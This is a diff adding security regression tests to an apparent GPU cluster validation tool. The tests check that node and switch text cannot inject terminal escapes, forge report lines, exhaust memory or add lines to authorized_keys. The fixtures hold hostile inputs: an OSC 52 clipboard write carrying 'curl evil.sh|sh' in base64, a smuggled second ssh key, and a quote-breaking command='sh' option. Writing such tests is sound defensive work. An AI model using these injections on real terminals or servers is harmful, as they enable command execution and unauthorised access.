@@ -15,13 +15,18 @@ import { renderInventory } from "../components/provision/inventory";
 import { readPreflight } from "../components/validate/preflight";
 import { sshCommonArgs } from "../components/provision/inventory";
 import { splitShellWords } from "../components/provision/fanout";
-import { sshArgs as switchSshArgs } from "../components/roce/fabric-read";
+import { MAX_ANSWER_BYTES, readFabric, sshArgs as switchSshArgs } from "../components/roce/fabric-read";
 import { keepInput } from "../components/kept-input";
 import { pushCommandFor } from "../components/roce/push";
 import { planQos } from "../components/roce/qos";
 import { renderSwitchConfigs } from "../components/roce/render";
 import { spec as roceSpec } from "./fixtures/roce/helpers";
+import { formatHealth, gradeHealthDir } from "../components/health/report";
+import { cap, stack } from "./fixtures/health/stacks";
+import { runNcclReport } from "../components/validate/cli";
+import { fabricDrift, formatDriftReport } from "../components/roce/drift";
 
+const ROOT_DIR = path.resolve(__dirname, "..");
 const RECAP = (h: string, failed = 0) => `${h} : ok=5    changed=0    unreachable=0    failed=${failed}    skipped=0    rescued=0    ignored=0`;
 
 /**
@@ -242,8 +247,117 @@ test("a node's terminal escapes never reach the operator: progress, log and summ
     // eslint-disable-next-line no-control-regex
     const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
     assert.match(r.run.stdout, /TASK .*RECAP/, "the node's task line is shown, as plain text");
-    for (const [what, text] of [["progress", r.run.stdout], ["log", r.log], ["summary", r.verdict.stdout + r.verdict.stderr]]) {
+    // the failed node's own log file too (out/<stack>/nodes/<node>.log, what an operator reads on a failure): found by
+    // the trust review (w9), it was the node's text as sent
+    const own = fs.readFileSync(path.join(r.dir, "nodes", "n1.log"), "utf8");
+    assert.match(own, /fatal: \[n1\]: FAILED!/);
+    for (const [what, text] of [["progress", r.run.stdout], ["log", r.log], ["summary", r.verdict.stdout + r.verdict.stderr], ["the node's own log", own]]) {
         assert.doesNotMatch(text, control, `${what} holds a control character`);
     }
     fs.rmSync(r.dir, { recursive: true, force: true });
+});
+
+// Found by the trust review (w9): the reports printed a node's or a switch's own text as it came (a capture's evidence
+// line, a preflight `seen`, an ssh error), so an escape sequence reached the operator's terminal and a newline made a
+// line of its own. OSC 52 writes the clipboard; "ESC [1A ESC [2K" goes up a line and erases it (ECMA-48 CUU, EL).
+const ESCAPES = "\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[1A\u001b[2K\u009b2J";
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+test("rdmakit health prints a capture's escapes as blanks: a node's evidence line cannot move the cursor or write the clipboard", () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-health-"));
+    fs.mkdirSync(path.join(dir, "gpu-a"));
+    // the published Xid 79 capture, its lines carrying escapes after the driver's words, as a hostile node could write it
+    fs.writeFileSync(path.join(dir, "gpu-a", "dmesg.txt"), cap("dmesg.h100-525-xid79.txt").replace(/fallen off the bus/g, `fallen off the bus${ESCAPES}`));
+    const text = formatHealth(gradeHealthDir(dir, stack("examples/aws-p5.yaml")), "head");
+    assert.match(text, /dmesg\.txt: .*Xid \(PCI:0000:5d:00\): 79, .*GPU has fallen off the bus .*52;c;/, "the evidence line is still shown, as plain text");
+    assert.doesNotMatch(text, CONTROL);
+    fs.rmSync(dir, { recursive: true, force: true });
+});
+
+test("nccl-report prints a node's preflight text on its own line: no forged line, no escape", () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-pre-"));
+    fs.mkdirSync(path.join(dir, "preflight"));
+    const forged = `8192${ESCAPES}\n  ok   preflight: 2 of 2 node(s) pass\nnccl-tests validation: PASS`;
+    fs.writeFileSync(path.join(dir, "preflight", "n1.json"), JSON.stringify({ host: "n1", checks: [{ check: "memlock", expected: "unlimited", ok: false, seen: forged }] }));
+    fs.writeFileSync(path.join(dir, "preflight", "n2.json"), JSON.stringify({ host: "n2", checks: [{ check: "memlock", expected: "unlimited", ok: true, seen: "unlimited" }] }));
+    const r = runNcclReport([], { preflight: path.join(dir, "preflight"), out: dir });
+    assert.equal(r.code, 1, r.stdout + r.stderr);
+    assert.match(r.stdout, /^nccl-tests validation: FAIL/);
+    assert.doesNotMatch(r.stdout, /^nccl-tests validation: PASS/m, "the node's text made a verdict line of its own");
+    assert.doesNotMatch(r.stdout, /^ {2}ok {3}preflight/m);
+    assert.match(r.stdout, /x memlock \[preflight n1\]: expected unlimited; seen 8192 .* ok {3}preflight: 2 of 2 node\(s\) pass nccl-tests validation: PASS$/m);
+    assert.doesNotMatch(r.stdout, CONTROL);
+    fs.rmSync(dir, { recursive: true, force: true });
+});
+
+test("rdmakit fabric check prints a switch's ssh error and a host's answer as plain text", () => {
+    const plan = planQos(roceSpec());
+    const sw = plan.switches[0];
+    const report = fabricDrift(plan, [{ switch: sw.name, error: `show running-config: exit 1: banner${ESCAPES}\nPASS` }], []);
+    const text = formatDriftReport(report);
+    assert.match(text, new RegExp(`^UNREADABLE ${sw.name}: show running-config: exit 1: banner .* PASS$`, "m"));
+    assert.doesNotMatch(text, CONTROL);
+    assert.doesNotMatch(text, /^PASS$/m);
+});
+
+// Found by the trust review (w9): fabric check kept all a switch or host sent within the timeout, so one answering
+// without end exhausted the controller's memory (a string past V8's limit threw "Invalid string length" in the
+// reader, an uncaught exception that ended the whole check).
+test("rdmakit fabric check stops a switch that answers more than MAX_ANSWER_BYTES: that switch unreadable, the others read", { timeout: 60_000 }, async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-flood-"));
+    const plan = planQos(roceSpec());
+    const [flood, ...rest] = plan.switches;
+    // the stand-in: the first switch's address answers without end, every other one a line
+    const ssh = path.join(dir, "ssh");
+    fs.writeFileSync(ssh, `#!/bin/sh\nfor a in "$@"; do prev=\${last:-}; last=$a; done\ncase "$prev" in *@${flood.managementAddress}) exec yes 0123456789abcdef0123456789abcdef ;; esac\necho ok\n`, { mode: 0o755 });
+    const got = await readFabric(plan, { ssh, hosts: false, timeoutS: 50 });
+    const bad = got.switches.find((s) => s.switch === flood.name)!;
+    assert.equal(bad.config, undefined);
+    assert.match(bad.error ?? "", new RegExp(`answered more than ${MAX_ANSWER_BYTES} bytes: stopped, nothing of it read`));
+    for (const s of rest) assert.equal(got.switches.find((x) => x.switch === s.name)?.config, "ok\n");
+    fs.rmSync(dir, { recursive: true, force: true });
+});
+
+// Found by the trust review (w9): a launching node's public key file and resolved addresses went into every other
+// node's authorized_keys as they came (tasks/run_key.yml), so a launcher could add a line of its own (a newline in its
+// key file: no restrict, no from=, no run label, so run_key_remove.yml left it there after the run) or end from="..."
+// with a quote and add options. The role's real template, rendered by ansible-playbook as the task renders it.
+test("the run's authorized_keys lines take a launcher's key and addresses only when they are one key and plain addresses", { timeout: 60_000 }, (t) => {
+    if (spawnSync("sh", ["-c", "command -v ansible-playbook"]).status !== 0) return t.skip("ansible-playbook is not installed: the template was not rendered");
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-keys-"));
+    const k = (c: string) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${c.repeat(43)} rdmakit-mpirun-run=20260101T000000Z-1 `;
+    const b64 = (s: string) => Buffer.from(s).toString("base64");
+    const hosts = {
+        // a second line of the launcher's choosing after its key: its own key is taken, the second line never
+        n1: { pub: `${k("A")}n1\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVILEVILEVILEVILEVILEVILEVILEVILEVILEVILEVI evil\n`, from: ["10.0.0.1"] },
+        // an honest key, one address and one that ends the quoted list
+        n2: { pub: `${k("B")}n2\n`, from: ["10.0.0.2", '10.0.0.9",command="sh'] },
+        // only an address that is a name pattern: nothing left to limit the key to
+        n3: { pub: `${k("C")}n3\n`, from: ["*"] },
+        // an IPv6 launcher, honest
+        n4: { pub: `${k("D")}n4\n`, from: ["fd00::4"] },
+    };
+    const inventory = { all: { hosts: Object.fromEntries(Object.entries(hosts).map(([h, v]) => [h, { ansible_connection: "local",
+        nccl_validate_run_pub: { content: b64(v.pub) }, nccl_validate_run_from: v.from }])) } };
+    fs.writeFileSync(path.join(dir, "inventory.json"), JSON.stringify(inventory));
+    const out = path.join(dir, "authorized_keys");
+    fs.writeFileSync(path.join(dir, "play.yml"), [
+        "- hosts: n4", "  gather_facts: false", "  vars:", "    nccl_validate_launchers: [n1, n2, n3, n4]",
+        "    nccl_validate_run_label: rdmakit-mpirun-run=20260101T000000Z-1", "  tasks:", "    - ansible.builtin.copy:",
+        `        content: "{{ lookup('ansible.builtin.template', '${path.join(ROOT_DIR, "playbooks", "roles", "nccl_validate", "templates", "run-keys.j2")}') }}"`,
+        `        dest: ${out}`, "",
+    ].join("\n"));
+    const r = spawnSync("ansible-playbook", ["-i", path.join(dir, "inventory.json"), path.join(dir, "play.yml")],
+        { encoding: "utf8", env: { ...process.env, ANSIBLE_NOCOLOR: "1", ANSIBLE_PYTHON_INTERPRETER: "auto_silent" } });
+    assert.equal(r.status, 0, r.stdout + r.stderr);
+    const label = "rdmakit-mpirun-run=20260101T000000Z-1";
+    const text = fs.readFileSync(out, "utf8");
+    assert.doesNotMatch(text, /EVIL|evil|command=|\*/);
+    assert.deepEqual(text.trim().split("\n"), [
+        `restrict,from="10.0.0.1" ${k("A").split(" ").slice(0, 2).join(" ")} ${label} n1`,
+        `restrict,from="10.0.0.2" ${k("B").split(" ").slice(0, 2).join(" ")} ${label} n2`,
+        `restrict,from="fd00::4" ${k("D").split(" ").slice(0, 2).join(" ")} ${label} n4`,
+    ]);
+    fs.rmSync(dir, { recursive: true, force: true });
 });
